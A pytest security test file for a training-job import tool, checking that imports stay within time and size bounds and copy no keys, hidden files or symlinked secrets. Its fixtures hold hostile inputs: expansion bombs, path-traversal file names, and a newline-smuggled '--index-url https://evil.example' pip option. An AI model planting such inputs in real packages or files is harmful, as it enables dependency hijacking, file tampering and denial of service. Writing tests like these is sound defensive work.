"""Tests that ``vt import`` of a foreign file is bounded and copies only plain files beside it."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from tests.security.test_links import SECRET
from tests.unit.vt.importing.test_command import YAML, project, vt
from vertex_training.errors import CommandError
from vertex_training_cli.importing import recorded, sources
from vertex_training_cli.importing.imported import MAX_LENGTH, ImportedJob

__all__ = ["project", "vt"]
#: Lists in lists, by names: the last one's text has 10^12 characters.
BOMB = "\n".join(
    ["a0 = ['x', 'x']", *(f"a{n} = [{', '.join([f'a{n - 1}'] * 10)}]" for n in range(1, 13))]
)


@pytest.mark.parametrize("use", ['f"{a12}"', '"x" + a12', '"{}".format(a12)', "{a12: 1}", "a12"])
def test_import_bounds_the_text_of_nested_lists(use: str, tmp_path: Path) -> None:
    source = f"{BOMB}\nj = CustomJob(display_name={use}, worker_pool_specs=[{{'args': [{use}]}}])\n"
    (tmp_path / "bomb.py").write_text(source)
    code = "import pathlib, sys; from vertex_training_cli.importing import sources; "
    code += "print(len(str(sources.read(pathlib.Path(sys.argv[1])).jobs)))"
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "bomb.py")],
        capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    refused = "too large for a job" in done.stderr
    assert refused or int(done.stdout) < 10 * MAX_LENGTH, done.stderr


#: A text that each line doubles, by names, by `+` or within a text.
DOUBLED = {
    "sum": "a0 = 'x' * 9\n" + "".join(f"a{n} = a{n - 1} + 'y' + a{n - 1}\n" for n in range(1, 60)),
    "text": "a0 = 'xxxxxxxxx'\n"
    + "".join(f"a{n} = f'{{a{n - 1}}}{{a{n - 1}}}'\n" for n in range(1, 60)),
    "many": f"a59 = '{'x' * 150_000}'\n" + "b = f'" + "{a59}" * 20_000 + "'\na59 = b\n",
}


@pytest.mark.parametrize("code", DOUBLED.values(), ids=DOUBLED)
def test_import_bounds_text_that_doubles_with_each_line(code: str, tmp_path: Path) -> None:
    (tmp_path / "bomb.py").write_text(f"{code}CustomJob('j', [{{'replica_count': a59}}]).run()\n")
    with suppress(CommandError):  # larger than any job
        [job] = sources.read(tmp_path / "bomb.py").jobs
        assert len(str(job)) < 2 * MAX_LENGTH


@pytest.fixture
def beside(project: Path) -> Path:
    """Return a folder with a foreign job that names files in it."""
    folder = project.parent / "downloads"
    (folder / ".ssh").mkdir(parents=True)
    (folder / ".ssh" / "id_rsa").write_bytes(SECRET)
    (folder / "key.pem").write_text("-----BEGIN PRIVATE KEY-----\nMIIcanary\n")
    (folder / "data.csv").write_text("1,2\n")
    (project.parent / "outside").write_bytes(SECRET)
    (folder / "link").symlink_to(project.parent / "outside")
    names = (".ssh/id_rsa", "key.pem", "link", "data.csv")
    args = ", ".join(f"--in=gs://acme-in/{name}" for name in names)
    job = YAML.replace("--train=gs://acme-in/a", args)
    (folder / "job.yaml").write_text(job)
    return folder


def test_import_copies_no_hidden_files_keys_or_links(beside: Path, vt, project: Path) -> None:
    said = vt(beside / "job.yaml", "--write").output
    copied = {path.name for path in (project / "jobs/data").rglob("*") if path.is_file()}
    assert copied == {"data.csv"}
    assert "a copy of 4 bytes" in said
    assert "canary" not in said


def test_import_copies_no_file_from_the_home_folder(
    beside: Path, vt, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(beside))
    vt(beside / "job.yaml", "--write")
    assert not (project / "jobs/data").exists()


def test_import_writes_through_no_link_of_the_checkout(beside: Path, vt, project: Path) -> None:
    victim = project.parent / "victim"
    victim.mkdir()
    (project / "jobs" / "data").symlink_to(victim)
    vt(beside / "job.yaml", "--write", code=2)
    assert list(victim.iterdir()) == []


@pytest.mark.parametrize("place", ["", "behind a link"])
def test_import_removes_no_file_outside_of_its_copy(
    place: str, beside: Path, vt, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    temporary, name = project.parent / "temporary", "../../../../victim/data.csv"
    victim = temporary / "victim" / "data.csv"
    victim.parent.mkdir(parents=True)
    victim.write_text("precious")
    monkeypatch.setattr("tempfile.tempdir", str(temporary))
    folder = project / "jobs" / "data" / "acme-in"
    folder.mkdir(parents=True)
    if place:  # a link that leads elsewhere from the copy than from the checkout
        name = "sub/data.csv"
        (folder / "sub").symlink_to("../../../../victim")
    (beside / "job.yaml").write_text(YAML.replace("acme-in/a", f"acme-in/{name}"))
    vt(beside / "job.yaml", code=2)
    assert victim.read_text() == "precious"


@pytest.fixture
def bounded() -> Iterator[None]:
    """Limit the processor time to one minute; wall time is unreliable beside other tests."""
    began = time.process_time()
    yield
    assert time.process_time() - began < 60


#: Code of others that would be read for hours if every loop, call and branch were followed.
LONG = {
    "branches": "".join(f"x{i} = [1]\nif f{i}():\n    y{i} = 1\n" for i in range(1500)),
    "loops": "for a in range(900):\n for b in range(900):\n  for c in range(900):\n   x = a\n",
    "comprehensions": "x = [1 for a in range(900) for b in range(900) for c in range(900)]\n",
    "calls": "def f0():\n    return 1\n"
    + "".join(f"def f{i}():\n    return f{i - 1}() + f{i - 1}()\n" for i in range(1, 40))
    + "z = f39()\n",
    "names that are bound often": "x = 'a'\ny = [x]\n" * 30_000,
    "names of one another": "x0 = [1]\n"
    + "".join(f"x{n} = [x{n - 1}]\n" for n in range(1, 9000))
    + "x8999.append(1)\n",
    "calls of calls": ("y = [a" + ".b()" * 90 + "]\nz = [y, y]\n") * 200,
    "large values": f"d = {{{', '.join(f'{i}: [{i}]' for i in range(8000))}}}\n"
    + "".join(f"if f{i}():\n    d[{i}] = 1\n" for i in range(300)),
}


@pytest.mark.usefixtures("bounded")
@pytest.mark.parametrize("code", LONG.values(), ids=LONG)
def test_import_bounds_long_loops_and_finds_the_job_after_them(code: str, tmp_path: Path) -> None:
    job = "j = CustomJob(display_name='x', worker_pool_specs=[{'replica_count': 1}])\nj.run()\n"
    (tmp_path / "long.py").write_text(code + job)
    [found] = sources.read(tmp_path / "long.py").jobs
    assert found.spec["workerPoolSpecs"] == [{"replicaCount": 1}]


@pytest.mark.usefixtures("bounded")
@pytest.mark.parametrize("part", ["$(", "${a:-", "`", "a=(", "<<E\n", "if x; then ", "\\\n"])
def test_import_bounds_a_script_of_nested_halves(part: str, tmp_path: Path) -> None:
    line = "gcloud ai custom-jobs create --display-name=x --worker-pool-spec=machine-type=n1\n"
    (tmp_path / "half.sh").write_text(f"#!/bin/sh\n{line}X={part * 20_000}\n{line}")
    assert sources.read(tmp_path / "half.sh").jobs


#: Pages, notebooks and scripts below the bound, each part of which was once looked up in all.
MANY = {
    "fences that are not closed": ("page.md", "```yaml\nx\n" * 300_000),
    "fences of many lengths": ("page.md", "````a\n" * 500_000),
    "long fences": ("page.md", ("```yaml\n" + " " * 2000 + "x\n") * 1700),
    "words with commands": ("page.md", "`gcloud ai custom-jobs create`\n" * 15_000),
    "blank lines": ("page.md", "    \n\t\n" * 100_000),
    "lines of a cell that go on": ("cell.ipynb", "!a\\\n" * 600_000),
    "lines of a script that go on": ("script.sh", "#!/bin/sh\n" + "a\\\n" * 300_000),
    "arrays that do not end": ("script.sh", "#!/bin/sh\nX=(\n" + "a\n" * 100_000),
}


@pytest.mark.usefixtures("bounded")
@pytest.mark.parametrize(("name", "text"), MANY.values(), ids=MANY)
def test_import_time_of_a_long_source_is_linear(name: str, text: str, tmp_path: Path) -> None:
    if name.endswith(".ipynb"):
        text = json.dumps({"cells": [{"cell_type": "code", "source": text}]})
    (tmp_path / name).write_text(text)
    with suppress(CommandError):  # some have no job
        sources.read(tmp_path / name)


def packed(files: dict[str, bytes]) -> bytes:
    """Return a script's archive as the client creates it."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(f"p/{name}")
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return packed.getvalue()


TASK = "aiplatform_custom_trainer_script/task.py"
PACKAGES = {
    "no archive": b"x",
    "a cut archive": packed({TASK: os.urandom(300_000)})[:100_000],
    "a broken archive": packed({TASK: b"x" * 9999})[:40] + b"\xff" * 50,
    "no Python": packed({TASK: b"1", "setup.py": b"def (:"}),
    "deep Python": packed({TASK: b"1", "setup.py": b"x=" + b"-" * 100_000 + b"1"}),
}
PACKAGE = "aiplatform-x-aiplatform_custom_trainer_script-0.1.tar.gz"


def took(uri: str, buckets: Path) -> tuple[ImportedJob, sources.SourceContents]:
    """Import a command's job, and return the imported part of its package."""
    pool = {"pythonPackageSpec": {"packageUris": [uri]}}
    source = sources.SourceContents([job := ImportedJob("j", {"workerPoolSpecs": [pool]})])
    recorded.take_script(job, buckets, source)
    return job, source


@pytest.mark.parametrize("content", PACKAGES.values(), ids=PACKAGES)
def test_unreadable_package_is_reported_and_stays_unchanged(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "stg").mkdir()
    (tmp_path / "stg" / PACKAGE).write_bytes(content)
    job, source = took(f"gs://stg/{PACKAGE}", tmp_path)
    assert (job.script, source.files) == ("", {})
    assert PACKAGE in job.remarks[0]


def test_package_comes_only_from_buckets_without_pip_options(
    tmp_path: Path,
) -> None:
    (tmp_path / "buckets" / "stg").mkdir(parents=True)
    setup = b"setup(install_requires=['a', 'b\\n--index-url https://evil.example'])"
    content = packed({TASK: b"1", "setup.py": setup})
    for folder in (tmp_path, tmp_path / "buckets" / "stg"):
        (folder / PACKAGE).write_bytes(content)
    assert took(f"gs://../{PACKAGE}", tmp_path / "buckets")[1].files == {}
    job, source = took(f"gs://stg/{PACKAGE}", tmp_path / "buckets")
    assert (source.files, job.requirements) == ({"j.py": "1"}, ("a",))
